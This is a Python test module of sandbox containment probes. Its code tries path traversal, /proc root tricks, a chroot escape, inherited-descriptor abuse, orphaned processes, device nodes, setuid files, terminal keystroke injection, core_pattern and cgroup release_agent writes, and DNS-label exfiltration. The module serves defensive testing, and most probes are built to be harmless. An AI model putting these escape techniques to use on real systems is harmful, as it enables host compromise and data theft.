"""Probes of ways around what a sandbox shows: paths, links, descriptors, processes that stay, special files.

They hold at least what the tests of Anthropic's sandbox-runtime look at.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import socket
import stat
import struct
import subprocess
import sys
import termios
import time

from tests.containment import inside
from tests.containment.inside import Facts, found, probe

_SLEEP = "import sys, time; time.sleep(float(sys.argv[2]))"
# Longer than the wait for it to be gone, and short enough if a test is ended before it could end it.
_STAY_SECONDS = 60


def _outside(facts: Facts) -> str:
    return str(facts["files"]["file"])


def _up_from(directory: str, path: str) -> str:
    """Return a path that goes up from a directory, further than there is to go, and down again to another."""
    return f"{directory}/{'../' * 12}{path.lstrip('/')}"


def _mark_below(facts: Facts, directory: str) -> bool:
    """Leave a marked file; whether it is outside is for the world to see."""
    path = os.path.join(directory, f"written-{facts['mark']}")
    with open(path, "w") as file:
        file.write(facts["mark"])
    return False


# --- Paths


@probe("escape")
def secret_by_its_path(facts: Facts) -> bool:
    """Any file of the server's user."""
    return inside.steals(facts, _outside(facts))


@probe("escape")
def secret_by_going_up(facts: Facts) -> bool:
    """The same, relative to the directory that is allowed."""
    return inside.steals(facts, _up_from(os.getcwd(), _outside(facts)))


@probe("escape")
def secret_behind_a_symbolic_link(facts: Facts) -> bool:
    """The same, by a link in the directory that is allowed."""
    link = f"link-{facts['mark']}"
    os.symlink(_outside(facts), link)
    try:
        return inside.steals(facts, link)
    finally:
        os.unlink(link)


@probe("escape")
def directory_behind_a_symbolic_link_written_to(facts: Facts) -> bool:
    """Files written anywhere, by a link in the directory that is allowed."""
    link = f"link-{facts['mark']}"
    os.symlink(os.path.dirname(_outside(facts)), link)
    try:
        return _mark_below(facts, link)
    finally:
        os.unlink(link)


@probe("escape")
def secret_behind_a_hard_link(facts: Facts) -> bool:
    """A file from outside that stays within reach, whatever happens to its name."""
    link = f"link-{facts['mark']}"
    os.link(_outside(facts), link)
    try:
        return inside.steals(facts, link)
    finally:
        os.unlink(link)


@probe("escape")
def hard_link_to_a_file_of_the_system(facts: Facts) -> bool:
    """A file of the system in a place where it can be written to."""
    link = f"link-{facts['mark']}"

    def links(path: str) -> bool:
        os.link(os.path.realpath(path), link)
        try:
            return inside.is_descriptor(os.open(link, os.O_WRONLY))
        finally:
            os.unlink(link)

    return inside.any_of(links, (os.__file__, "/etc/passwd", "/usr/bin/env"))


@probe("escape")
def directory_above_written_to(facts: Facts) -> bool:
    """Files beside the directory that is allowed, where the server keeps its own."""
    return _mark_below(facts, "..")


@probe("escape")
def directory_of_another_session_written_to(facts: Facts) -> bool:
    """Files planted in other people's work."""
    return _mark_below(facts, f"{facts['theirs']}/work")


@probe("escape")
def directory_of_another_session_reached_from_the_own(facts: Facts) -> bool:
    """The same, by the path from one session to another."""
    return inside.any_of(lambda up: _mark_below(facts, f"{up}/theirs/work"), ("../..", "..", "/"))


@probe("escape")
def file_of_another_session_removed(facts: Facts) -> bool:
    """Other people's work lost."""
    os.unlink(facts["removable"])
    return False


@probe("escape")
def secret_through_the_own_root(facts: Facts) -> bool:
    """Any file, by a path that filters of paths do not know."""
    return inside.steals(facts, f"/proc/self/root{_outside(facts)}")


@probe("escape")
def secret_through_the_root_of_a_thread(facts: Facts) -> bool:
    """The same, by yet another path."""
    return inside.steals(facts, f"/proc/thread-self/root{_outside(facts)}")


@probe("escape")
def secret_through_the_own_directory(facts: Facts) -> bool:
    """The same, from where the kernel is."""
    return inside.steals(facts, _up_from("/proc/self/cwd", _outside(facts)))


@probe("escape")
def secret_through_the_first_process(facts: Facts) -> bool:
    """The files that process 1 sees, which may have been there before the sandbox was closed."""
    path = _outside(facts)
    return inside.any_steals(facts, [f"/proc/1/root{path}", _up_from("/proc/1/cwd", path)])


@probe("escape")
def secret_through_a_mount_behind_another(facts: Facts) -> bool:
    """What a private directory was mounted over."""
    places = ("/oldroot", "/newroot", "/old_root", "/.old_root", "/mnt", "/host", "/run/host")
    return inside.any_steals(facts, [place + _outside(facts) for place in places])


@probe("escape")
def directory_made_the_root(facts: Facts) -> bool:
    """What is above the root: the way out of a root that was only changed, not mounted."""

    def climb() -> bool:
        top = os.open("/", os.O_RDONLY)
        os.makedirs(f"/tmp/root-{facts['mark']}", exist_ok=True)
        try:
            os.chroot(f"/tmp/root-{facts['mark']}")
            os.fchdir(top)
            for _ in range(12):
                os.chdir("..")
            os.chroot(".")
            return inside.steals(facts, _outside(facts))
        finally:
            os.fchdir(top)

    try:
        return inside.in_child(climb)
    finally:
        if os.path.isdir(f"/tmp/root-{facts['mark']}"):
            os.rmdir(f"/tmp/root-{facts['mark']}")


# --- Descriptors


@probe("escape")
def inherited_file(facts: Facts) -> bool:
    """A file that whoever started the kernel forgot to close."""
    files = [fd for fd, mode in _inherited() if stat.S_ISREG(mode)]
    return inside.any_of(lambda fd: found(facts, os.pread(fd, 200, 0), "descriptor"), files)


@probe("escape")
def inherited_directory(facts: Facts) -> bool:
    """A directory that was forgotten: from there, the way up does not end at the root of the sandbox."""

    def opens(directory: int) -> bool:
        inner = os.open(_up_from(".", _outside(facts)), os.O_RDONLY, dir_fd=directory)
        try:
            return found(facts, inside.read(inner))
        finally:
            os.close(inner)

    directories = [fd for fd, mode in _inherited() if stat.S_ISDIR(mode)]
    return inside.any_of(opens, directories)


@probe("escape")
def inherited_socket(facts: Facts) -> bool:
    """A connection of the server's that was forgotten."""
    return any(stat.S_ISSOCK(mode) and os.fstat(fd).st_ino == facts["inherited_socket"] for fd, mode in _inherited())


@probe("escape")
def inherited_by_who_started_this(facts: Facts) -> bool:
    """What the launcher has open still, as process 1 in the sandbox or as the parent."""
    secrets = []
    for pid in {1, os.getppid()}:
        try:
            secrets += [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue

    def opens(path: str) -> bool:
        kind = os.stat(path).st_mode
        if stat.S_ISDIR(kind):
            return inside.steals(facts, _up_from(path, _outside(facts)))
        return stat.S_ISREG(kind) and inside.steals(facts, path)

    return inside.any_of(opens, secrets)


def _inherited() -> list[tuple[int, int]]:
    """Return what is open in this process, and of what kind it is."""
    inherited = []
    for name in os.listdir("/proc/self/fd"):
        try:
            inherited.append((int(name), os.fstat(int(name)).st_mode))
        except OSError:  # that of the listing itself
            continue
    return inherited


# --- Processes that stay


@probe("escape", outlives=True)
def process_that_outlives_the_kernel(facts: Facts) -> bool:
    """Code that runs on, unseen and uncounted, when its session is over."""
    _leave(facts, start_new_session=True)
    return False


@probe("escape", outlives=True)
def process_that_has_no_parent(facts: Facts) -> bool:
    """The same, forked twice, so that nobody in the kernel knows of it."""

    def fork_again() -> bool:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _SLEEP, facts["mark"], str(_STAY_SECONDS)])
        return False

    inside.in_child(fork_again)
    _appears(facts)
    return False


@probe("escape", outlives=True)
def process_that_ignores_all_signals(facts: Facts) -> bool:
    """The same, by one that only the strongest signal ends."""
    ignore = "import signal; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 3, 15)]; " + _SLEEP
    _leave(facts, ignore, start_new_session=True)
    return False


def _leave(facts: Facts, code: str = _SLEEP, *, start_new_session: bool = False) -> None:
    subprocess.Popen(
        [sys.executable, "-c", code, facts["mark"], str(_STAY_SECONDS)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=start_new_session,
    )
    _appears(facts)


def _appears(facts: Facts) -> None:
    def is_there() -> bool:
        for pid in inside.processes():
            try:
                if facts["mark"].encode() in inside.read(f"/proc/{pid}/cmdline"):
                    return True
            except OSError:
                continue
        return False

    assert inside.wait_for(is_there, 8), "the process did not start"


# --- Special files


def _device_is_read(kind: int, device: int, name: str) -> bool:
    for directory in (".", "/tmp", "/dev/shm", "/dev", os.path.expanduser("~")):
        path = os.path.join(directory, name)
        try:
            os.mknod(path, kind | 0o600, device)
        except OSError:
            continue
        try:
            return bool(inside.read(path))
        finally:
            os.unlink(path)
    raise PermissionError("no directory lets a device be made")


@probe("escape")
def disk_by_a_node_of_the_own(facts: Facts) -> bool:
    """The disk of the host below its file system, so that no permission counts."""
    return inside.any_of(
        lambda one: _device_is_read(stat.S_IFBLK, os.makedev(one[1], one[2]), f"disk-{facts['mark']}"),
        facts["block_devices"],
    )


@probe("escape")
def memory_device_by_a_node_of_the_own(facts: Facts) -> bool:
    """Devices of the host that the sandbox does not show; here a harmless one."""
    return _device_is_read(stat.S_IFCHR, os.makedev(1, 5), f"zero-{facts['mark']}")


@probe("escape")
def pipe_in_the_directory_of_another_session(facts: Facts) -> bool:
    """A program of somebody else's that waits for ever when it opens the file."""
    os.mkfifo(f"{facts['theirs']}/work/pipe-{facts['mark']}")
    return False


@probe("escape")
def socket_in_the_directory_of_another_session(facts: Facts) -> bool:
    """Somebody else's kernel played to the server."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"{facts['theirs']}/{facts['mark']}")
    return False


@probe("escape")
def program_that_makes_others_this_user(facts: Facts) -> bool:
    """Whoever runs it outside does so as the kernel's user, which may be root."""

    def leave() -> bool:
        path = f"program-{facts['mark']}"
        descriptor = os.open(path, os.O_CREAT | os.O_WRONLY, 0o700)
        os.fchmod(descriptor, 0o4755)
        return False

    def leave_by_opening() -> bool:
        os.umask(0)
        os.close(os.open(f"opened-{facts['mark']}", os.O_CREAT | os.O_WRONLY, 0o4755))
        return False

    return inside.any_of(inside.in_child, [leave, leave_by_opening])


@probe("escape")
def mode_of_a_device_of_the_host(facts: Facts) -> bool:
    """A host whose /dev/null is of no use to anybody: a node that is only lent is still the host's."""

    def same_mode(path: str) -> bool:
        os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
        return False

    return inside.any_of(lambda name: same_mode(f"/dev/{name}"), ("null", "zero", "urandom"))


# --- Terminals

_TIOCLINUX = 0x541C


def _types(facts: Facts, request: int) -> bool:
    """Type into the terminal that the server was started from, as soon as it is this process's own."""

    def type_text() -> bool:
        os.setsid()
        descriptor = os.open(facts["terminal"] or "/dev/tty", os.O_RDWR)
        with contextlib.suppress(OSError):  # it is somebody else's; then it is tried as it is
            fcntl.ioctl(descriptor, termios.TIOCSCTTY, 1)
        for letter in facts["mark"].encode():
            inside.syscall("ioctl", descriptor, request, bytes([letter]))
        return False

    return inside.in_child(type_text)


@probe("escape")
def input_typed_into_the_terminal(facts: Facts) -> bool:
    """A command for the shell that the server was started from."""
    return _types(facts, termios.TIOCSTI)


@probe("escape")
def input_typed_past_a_filter_of_all_bits(facts: Facts) -> bool:
    """The same, with a bit set that the system drops, and a careless filter compares."""
    return _types(facts, termios.TIOCSTI | 1 << 32)


@probe("escape")
def input_typed_into_any_open_terminal(facts: Facts) -> bool:
    """The same, into a terminal that was inherited."""
    for descriptor, mode in _inherited():
        if stat.S_ISCHR(mode) and os.isatty(descriptor):
            for letter in facts["mark"].encode():
                fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([letter]))
    return False


@probe("escape")
def text_shown_on_the_terminal(facts: Facts) -> bool:
    """Whatever the user believes to come from the server."""
    if facts["terminal"]:
        descriptor = os.open(facts["terminal"], os.O_WRONLY | os.O_NOCTTY)
        try:
            os.write(descriptor, facts["mark"].encode())
        finally:
            os.close(descriptor)
    return False


# --- The machine


def _writes_the_same(path: str) -> bool:
    """Whether a setting can be written; it stays as it is."""
    value = inside.read(path)
    descriptor = os.open(path, os.O_WRONLY)
    try:
        return os.write(descriptor, value) == len(value)
    finally:
        os.close(descriptor)


@probe("escape")
def settings_of_the_machine(facts: Facts) -> bool:
    """How the host's kernel behaves, for everybody."""
    names = ("vm/overcommit_memory", "kernel/panic", "fs/file-max", "kernel/randomize_va_space")
    return inside.any_of(lambda name: _writes_the_same(f"/proc/sys/{name}"), names)


@probe("escape")
def program_for_core_dumps(facts: Facts) -> bool:
    """A program that the host's kernel starts as root, outside, when anything crashes."""
    return _writes_the_same("/proc/sys/kernel/core_pattern")


@probe("escape")
def program_for_missing_modules(facts: Facts) -> bool:
    """The same, when a module is to be loaded."""
    return _writes_the_same("/proc/sys/kernel/modprobe")


@probe("escape")
def keys_of_the_machine(facts: Facts) -> bool:
    """The host's restart. Nothing is written."""
    descriptor = os.open("/proc/sysrq-trigger", os.O_WRONLY)
    return inside.is_descriptor(descriptor)


_CGROUPS = (
    "/sys/fs/cgroup/release_agent",
    "/sys/fs/cgroup/memory/release_agent",
    "/sys/fs/cgroup/cpu/release_agent",
    "/sys/fs/cgroup/pids/release_agent",
    "/sys/fs/cgroup/systemd/release_agent",
    "/sys/fs/cgroup/cgroup.procs",
    "/sys/fs/cgroup/memory/cgroup.procs",
    "/sys/fs/cgroup/unified/cgroup.procs",
)


@probe("escape")
def control_groups(facts: Facts) -> bool:
    """A program that the host's kernel starts as root, or the way out of all limits. Nothing is written."""
    return inside.any_of(lambda path: inside.is_descriptor(os.open(path, os.O_WRONLY)), _CGROUPS)


@probe("escape")
def control_groups_mounted_anew(facts: Facts) -> bool:
    """The same, by mounting them where the sandbox does not show them."""
    return inside.in_child(lambda: _mounts_groups("."))


@probe("escape")
def control_groups_mounted_in_namespaces_of_the_own(facts: Facts) -> bool:
    """The same, as the root of one's own namespaces."""
    clone_newns, clone_newcgroup, clone_newuser = 0x20000, 0x2000000, 0x10000000

    def mounts() -> bool:
        inside.call("unshare", clone_newuser | clone_newns | clone_newcgroup)
        return _mounts_groups(".")

    return inside.in_child(mounts)


def _mounts_groups(directory: str) -> bool:
    place = os.path.join(directory, f"groups-{os.getpid()}")
    os.mkdir(place)
    ms_rdonly, mnt_detach = 1, 2
    try:
        for kind, options in (("cgroup", b"memory"), ("cgroup", b"rdma"), ("cgroup2", None)):
            try:
                inside.call("mount", b"none", place.encode(), kind.encode(), ms_rdonly, options)
            except OSError as error:
                refusal = error
                continue
            shown = bool(os.listdir(place))
            inside.call("umount2", place.encode(), mnt_detach)
            return shown
        raise refusal
    finally:
        os.rmdir(place)


@probe("escape")
def protection_from_a_lack_of_memory(facts: Facts) -> bool:
    """A process that takes all memory, and is the last one to be ended for it."""
    path = "/proc/self/oom_score_adj"
    before = inside.read(path).decode()
    with open(path, "w") as file:
        file.write("-900")
    lowered = int(inside.read(path)) < int(before)
    with open(path, "w") as file:
        file.write(before)
    return lowered


@probe("escape")
def priority_above_all_others(facts: Facts) -> bool:
    """A process that leaves no time to any other."""

    def rise() -> bool:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
        return os.sched_getscheduler(0) == os.SCHED_FIFO

    def rise_a_little() -> bool:
        before = os.getpriority(os.PRIO_PROCESS, 0)
        os.setpriority(os.PRIO_PROCESS, 0, before - 1)
        return os.getpriority(os.PRIO_PROCESS, 0) < before

    return inside.any_of(inside.in_child, [rise, rise_a_little])


# --- Other ways out than TCP


def _sends(family: int, address: tuple[str, int | None], mark: str) -> bool:
    if address[1] is not None:
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.sendto(mark.encode(), address)
            time.sleep(0.05)
    return False


@probe("escape")
def datagram_to_a_service_of_the_host(facts: Facts) -> bool:
    """Services that speak UDP."""
    return _sends(socket.AF_INET, ("127.0.0.1", facts["udp4"]), facts["mark"])


@probe("escape")
def datagram_to_a_service_of_the_host_by_ipv6(facts: Facts) -> bool:
    """The same, where only the older protocol is closed."""
    return _sends(socket.AF_INET6, ("::1", facts["udp6"]), facts["mark"])


@probe("escape")
def datagram_to_a_name_outside_of_the_file_system(facts: Facts) -> bool:
    """Services that have a name which is no file, and need no connection."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(facts["mark"].encode(), "\0" + facts["datagrams"])
    time.sleep(0.05)
    return False


@probe("escape")
def secret_told_in_a_question_for_a_name(facts: Facts) -> bool:
    """Data carried out in names that are looked up."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in (facts["mark"], "test"))
    question = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    if facts["udp4"] is not None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.connect(("127.0.0.1", facts["udp4"]))
            sender.send(question)
        time.sleep(0.05)
    return False


def _has_a_route(family: int, address: str) -> bool:
    """Whether the system knows a way there; connecting a datagram socket sends nothing."""
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.connect((address, 53))
        return sender.getsockname()[0] not in ("127.0.0.1", "::1", "0.0.0.0", "::")


@probe("escape")
def way_to_the_network(facts: Facts) -> bool:
    """Other machines: the network that the server is in, and what is beyond."""
    return inside.any_way(
        lambda: _has_a_route(socket.AF_INET, "198.51.100.1"), lambda: _has_a_route(socket.AF_INET6, "2001:db8::1")
    )


@probe("escape")
def packets_of_any_protocol(facts: Facts) -> bool:
    """Echo requests and whatever else has no ports, to carry data in."""
    families = ((socket.AF_INET, socket.IPPROTO_ICMP), (socket.AF_INET6, socket.IPPROTO_ICMPV6), (socket.AF_INET, 255))

    def opens(family: int, protocol: int) -> bool:
        with socket.socket(family, socket.SOCK_RAW, protocol) as opened:
            return opened.fileno() >= 0

    return inside.any_of(lambda one: opens(*one), families)
